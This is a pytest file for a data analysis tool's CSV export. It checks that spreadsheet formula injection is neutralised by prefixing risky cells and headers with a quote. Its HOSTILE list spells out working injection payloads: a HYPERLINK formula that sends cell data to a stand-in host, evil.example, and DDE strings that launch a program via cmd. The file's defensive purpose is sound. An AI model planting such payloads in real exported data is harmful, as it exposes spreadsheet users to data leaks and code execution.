"""CSV downloads and the command line's --format csv: spreadsheet formulas in data never run."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from analysis.__main__ import _print
from analysis.core.csvtext import csv_text, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "-1,234.5", "1e-6", "-", "Pakistan", "FY2024-25", ""])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    expected = "'-" if cell == "-" else cell  # a lone minus is no number: a spreadsheet reads it as a formula
    assert neutralise(cell) == expected


def test_csv_text_neutralises_cells_and_headers_and_keeps_numbers():
    df = pd.DataFrame({"note": HOSTILE, "=1+1": range(6), "value": [-1.5, 2.0, np.nan, 4.0, -5.0, 6.25]})
    text = csv_text(df)
    back = pd.read_csv(io.StringIO(text))
    assert back.columns.tolist() == ["note", "'=1+1", "value"]
    assert back["note"].tolist() == ["'" + c.replace("\r", "\n") for c in HOSTILE]  # one row per row
    assert back["value"].tolist()[:2] == [-1.5, 2.0] and back["value"][4] == -5.0  # numbers stay numbers
    assert "\r\n" not in text and text == csv_text(df)  # stable bytes, \n line ends


def test_command_line_csv_is_neutralised(capsys):
    _print(pd.DataFrame({"series": ["=cmd()", "BX.GSR.CCIS.CD"], "rows": [1, 2]}), "csv")
    assert capsys.readouterr().out == "series,rows\n'=cmd(),1\nBX.GSR.CCIS.CD,2\n"
